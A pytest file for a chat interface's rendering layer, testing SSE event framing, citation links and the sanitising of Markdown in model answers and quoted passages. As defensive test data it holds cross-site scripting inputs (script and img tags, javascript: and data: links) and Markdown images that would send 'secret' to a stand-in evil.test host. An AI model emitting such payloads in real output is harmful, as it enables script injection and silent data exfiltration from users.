"""What readers get of an event: SSE frames, and the chat page's Markdown with everything foreign made harmless."""

import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.encode import Shown, answer, quoted, source, sse

ROUTED = {
    "type": "routed",
    "turn": "abcdef12-3456",
    "conversation": "c",
    "route": "retrieve",
    "scores": {"information": 0.93, "voice": 0.1},
    "threshold": 0.2,
    "reasons": ["asks for <b>something</b>", "a close match"],
    "query": "hotel cap",
    "fresh": False,
    "requested": False,
    "router_version": "v1",
}
FINISHED = {
    "type": "finished",
    "answer": "",
    "model": "m",
    "prompt_version": "p",
    "usage": {},
    "timings": {"first_token": 0.1, "finished": 0.2},
    "note": "A note.",
    "cut": False,
}


def passage(number: int, **changes: Any) -> dict[str, Any]:
    return {
        "number": number, "collection": "demo", "document": "a.md", "title": "Travel", "section": ["Caps"],
        "page": None, "date": "2026-03-02", "text": "The cap is £165.", "start": 0, "end": 16, "score": 0.03,
        "similarity": 0.7,
    } | changes  # fmt: skip


def retrieved(*passages: dict[str, Any], evidence: str = "supported") -> dict[str, Any]:
    return {"type": "retrieved", "query": "q", "searched": ["demo"], "passages": list(passages), "evidence": evidence}


@given(st.text(), st.sampled_from(["text_delta", "finished"]))
def test_an_sse_frame_is_one_event_whatever_the_text(text: str, kind: str) -> None:
    frame = sse({"type": kind, "text": text})
    assert frame.endswith("\n\n") and frame.count("\n\n") == 1
    name, data = frame.rstrip("\n").split("\n")
    assert name == f"event: {kind}" and json.loads(data.removeprefix("data: "))["text"] == text


def test_an_answer_shows_route_text_note_and_the_cited_source_first() -> None:
    shown = Shown()
    checked = {"type": "checked", "evidence": "supported", "cited": [2], "invented": []}
    for event in (
        ROUTED,
        retrieved(passage(1, title="Other"), passage(2)),
        {"type": "text_delta", "text": "The cap is £165 "},
        {"type": "text_delta", "text": "[2]."},
        checked,
        FINISHED,
    ):
        shown.take(event)
    page = shown.markdown()
    assert page.index('class="route') < page.index("The cap is £165") < page.index("A note.")
    assert page.index("src-abcdef12-2") < page.index("1 more found") < page.index("src-abcdef12-1")
    assert r"[\[2\]](#cite-abcdef12-2)" in page
    assert "asks for &lt;b&gt;something" in page and "<b>something" not in page


def test_a_failure_and_a_stop_are_said() -> None:
    shown = Shown()
    shown.take(ROUTED)
    shown.take({"type": "failed", "code": "x", "message": "The model is <down>.", "partial": ""})
    assert '<p class="notice failed">The model is &lt;down&gt;.</p>' in shown.markdown()
    assert "Stopped." in Shown(text="half", routed=ROUTED, stopped=True).markdown()


@pytest.mark.parametrize("evidence", ["partly", "not_in_documents"])
def test_weak_evidence_is_said(evidence: str) -> None:
    shown = Shown()
    shown.take(ROUTED)
    shown.take(retrieved(passage(1), evidence=evidence))
    assert 'class="notice evidence"' in shown.markdown()


@pytest.mark.parametrize(
    ("text", "gone", "kept"),
    [
        ("<img src=http://evil.test/x>", "<img", "&lt;img"),
        ("<script>alert(1)</script>", "<script", "alert"),
        ("![leak](https://evil.test/?q=secret)", "evil.test", "leak"),
        ("![leak][1]\n\n[1]: https://evil.test", "![", "leak"),
        ("[click](javascript:alert(1))", "javascript:", "[click]"),
        ("[click](  JaVaScript:alert(1) )", "JaVaScript", "[click]"),
        ("[click](data:text/html,x)", "data:", "[click]"),
        ("<a href='javascript:x'>y</a>", "<a", "y"),
    ],
)
def test_foreign_markup_in_an_answer_is_harmless(text: str, gone: str, kept: str) -> None:
    page = answer(text, "t", set())
    assert gone not in page and kept in page


def test_code_is_left_as_it_is() -> None:
    text = "Use `a[1] < b` or\n\n```html\n<img src=x> [1]\n```\nthen [1]."
    page = answer(text, "t", {1})
    assert "`a[1] < b`" in page and "<img src=x> [1]" in page and page.endswith(r"[\[1\]](#cite-t-1).")


def test_only_numbers_of_passages_become_links() -> None:
    assert answer("a [1] b [7] c [1](x)", "t", {1}) == r"a [\[1\]](#cite-t-1) b \[7\] c [1](x)"


@given(st.text(max_size=300))
def test_a_quoted_passage_holds_no_active_markup_and_stays_one_block(text: str) -> None:
    html = quoted(text)
    assert "\n" not in html
    tags = set(re.findall(r"<(\w+)", html))
    allowed = "p ul ol li blockquote code pre em strong h1 h2 h3 h4 h5 h6 hr br table thead tbody tr th td"
    assert tags <= set(allowed.split())


@pytest.mark.parametrize("text", ["[x](javascript:1)", "![x](http://evil.test)", "<img src=x>", "<http://evil.test>"])
def test_links_and_images_of_a_passage_are_text(text: str) -> None:
    html = source(passage(1, text=text, title="<i>t</i>", section=["<b>"]), "t")
    assert "<img" not in html and "<a " not in html and "<i>" not in html and "<b>t" not in html
